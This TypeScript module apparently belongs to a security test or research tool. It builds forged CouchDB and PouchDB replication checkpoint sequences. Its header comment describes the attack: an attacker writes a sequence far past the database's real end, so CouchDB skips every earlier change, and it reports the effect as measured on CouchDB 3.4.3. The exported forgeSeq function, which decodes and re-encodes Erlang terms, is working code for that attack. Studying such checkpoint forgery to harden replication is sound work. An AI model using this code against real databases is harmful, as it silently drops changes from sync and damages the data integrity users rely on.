/**
 * What an attacker writes into a checkpoint: a feed sequence far beyond the database's end.
 * PouchDB's sequences are integers. CouchDB 3's are `N-<base64url of term_to_binary(...)>`, a list
 * of `{Node, [Begin, End], {Seq, UuidPrefix, EpochNode}}` per shard; CouchDB resumes each shard at
 * `Seq` when the uuid is the shard's (it is: the attacker copies it from the database's own
 * `update_seq`), so every change below the forged number is skipped. Measured on CouchDB 3.4.3:
 * `_changes?since=<this>` answered no results, also for a document written afterwards.
 * Only the Erlang external term tags such a sequence holds are handled.
 */
import { inflateSync } from 'zlib';

type Term =
  | { t: 'list'; items: Term[]; tail: Term }
  | { t: 'nil' }
  | { t: 'tuple'; items: Term[] }
  | { t: 'atom'; v: string }
  | { t: 'int'; v: bigint }
  | { t: 'bin'; v: Buffer };

function decode(b: Buffer, o: number): [Term, number] {
  const tag = b[o++];
  switch (tag) {
    case 108: {
      // LIST_EXT
      const n = b.readUInt32BE(o);
      o += 4;
      const items: Term[] = [];
      for (let i = 0; i < n; i++) {
        const [t, next] = decode(b, o);
        items.push(t);
        o = next;
      }
      const [tail, next] = decode(b, o);
      return [{ t: 'list', items, tail }, next];
    }
    case 106:
      return [{ t: 'nil' }, o];
    case 104: {
      // SMALL_TUPLE_EXT
      const n = b[o++];
      const items: Term[] = [];
      for (let i = 0; i < n; i++) {
        const [t, next] = decode(b, o);
        items.push(t);
        o = next;
      }
      return [{ t: 'tuple', items }, o];
    }
    case 100:
    case 118: {
      const n = b.readUInt16BE(o);
      return [{ t: 'atom', v: b.toString(tag === 100 ? 'latin1' : 'utf8', o + 2, o + 2 + n) }, o + 2 + n];
    }
    case 119: {
      const n = b[o];
      return [{ t: 'atom', v: b.toString('utf8', o + 1, o + 1 + n) }, o + 1 + n];
    }
    case 97:
      return [{ t: 'int', v: BigInt(b[o]) }, o + 1];
    case 98:
      return [{ t: 'int', v: BigInt(b.readInt32BE(o)) }, o + 4];
    case 110: {
      // SMALL_BIG_EXT: n bytes little-endian, a sign byte
      const n = b[o];
      const negative = b[o + 1] === 1;
      let v = 0n;
      for (let i = n - 1; i >= 0; i--) v = v * 256n + BigInt(b[o + 2 + i]);
      return [{ t: 'int', v: negative ? -v : v }, o + 2 + n];
    }
    case 109: {
      const n = b.readUInt32BE(o);
      return [{ t: 'bin', v: b.subarray(o + 4, o + 4 + n) }, o + 4 + n];
    }
    default:
      throw new Error(`forge-seq: unexpected term tag ${tag}`);
  }
}

function u32(tag: number, n: number): Buffer {
  const h = Buffer.alloc(5);
  h[0] = tag;
  h.writeUInt32BE(n, 1);
  return h;
}

function encode(x: Term): Buffer {
  switch (x.t) {
    case 'list':
      return Buffer.concat([u32(108, x.items.length), ...x.items.map(encode), encode(x.tail)]);
    case 'nil':
      return Buffer.from([106]);
    case 'tuple':
      return Buffer.concat([Buffer.from([104, x.items.length]), ...x.items.map(encode)]);
    case 'atom': {
      const s = Buffer.from(x.v, 'utf8');
      const h = Buffer.from([118, 0, 0]);
      h.writeUInt16BE(s.length, 1);
      return Buffer.concat([h, s]);
    }
    case 'int': {
      if (x.v >= 0n && x.v < 256n) return Buffer.from([97, Number(x.v)]);
      if (x.v >= -(2n ** 31n) && x.v < 2n ** 31n) {
        const h = Buffer.alloc(5);
        h[0] = 98;
        h.writeInt32BE(Number(x.v), 1);
        return h;
      }
      const bytes: number[] = [];
      for (let a = x.v < 0n ? -x.v : x.v; a > 0n; a >>= 8n) bytes.push(Number(a & 255n));
      return Buffer.from([110, bytes.length, x.v < 0n ? 1 : 0, ...bytes]);
    }
    case 'bin':
      return Buffer.concat([u32(109, x.v.length), x.v]);
  }
}

/** A sequence `ahead` changes beyond `seq` (the database's `update_seq`), per shard on CouchDB. */
export function forgeSeq(seq: string | number, ahead = 1_000_000_000): string | number {
  if (typeof seq === 'number') return seq + ahead;
  const packed = Buffer.from(seq.slice(seq.indexOf('-') + 1), 'base64url');
  if (packed[0] !== 131) throw new Error('forge-seq: not an Erlang term');
  // 80: compressed (a 4-byte size, then zlib); anything else: the term itself.
  const raw = packed[1] === 80 ? inflateSync(packed.subarray(6)) : packed.subarray(1);
  const [term] = decode(raw, 0);
  if (term.t !== 'list') throw new Error('forge-seq: not a list of shards');
  let sum = 0n;
  for (const shard of term.items) {
    const pos = shard.t === 'tuple' ? shard.items[2] : null;
    if (!pos || pos.t !== 'tuple' || pos.items[0].t !== 'int') throw new Error('forge-seq: unexpected shard entry');
    pos.items[0] = { t: 'int', v: pos.items[0].v + BigInt(ahead) };
    sum += pos.items[0].v;
  }
  return `${sum}-${Buffer.concat([Buffer.from([131]), encode(term)]).toString('base64url')}`;
}
